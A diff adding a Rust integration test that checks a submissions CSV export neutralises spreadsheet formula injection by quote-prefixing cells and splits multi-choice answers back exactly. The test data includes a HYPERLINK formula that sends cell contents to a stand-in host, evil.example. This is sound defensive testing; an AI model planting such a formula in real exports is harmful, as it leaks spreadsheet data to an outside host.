@@ -557,6 +557,37 @@ async fn staff_export_a_calls_submissions_as_csv_with_one_column_per_question() 
 }
 
 #[tokio::test]
+async fn the_csv_export_never_hands_a_spreadsheet_a_formula_and_splits_back_exactly() {
+    let setup = setup().await;
+    let options = ["Health", "Housing, land"];
+    let sectors = NewQuestion {
+        required: false,
+        options: &options,
+        ..NewQuestion::new("Your team", "Sectors", "multiple_choice")
+    };
+    setup.staff.add_question(&setup.call, sectors).await;
+    let draft = start(&setup).await;
+    let title = r#"=HYPERLINK("https://evil.example/?x="&A1,"Open")"#;
+    setup.team.write_about(&draft, title, "@SUM(1+1)").await;
+    let (part, field) = setup.team.find_question(&setup.call, "Sectors").await;
+    let form = setup.team.open(&draft.part(part)).await;
+    let saved = form.send(&setup.team, &[(field.as_str(), "Health"), (field.as_str(), "Housing, land")]).await;
+    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
+
+    let body = setup.staff.get(&format!("{}.csv", setup.call.list_path())).await.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
+    let row = reader.records().next().expect("one row").unwrap();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    // Formulas are text to a spreadsheet; what was typed is still all there after the quote.
+    assert_eq!(&row[column("title")], format!("'{title}"));
+    assert_eq!(&row[column("summary")], "'@SUM(1+1)");
+    // Two options, one holding a comma: one per line, so they split back as they were.
+    let chosen: Vec<&str> = row[column("Sectors")].split('\n').collect();
+    assert_eq!(chosen, options);
+}
+
+#[tokio::test]
 async fn submissions_have_a_json_twin_with_versions_and_problem_documents() {
     let setup = setup().await;
     let org = setup.organisation.to_string();
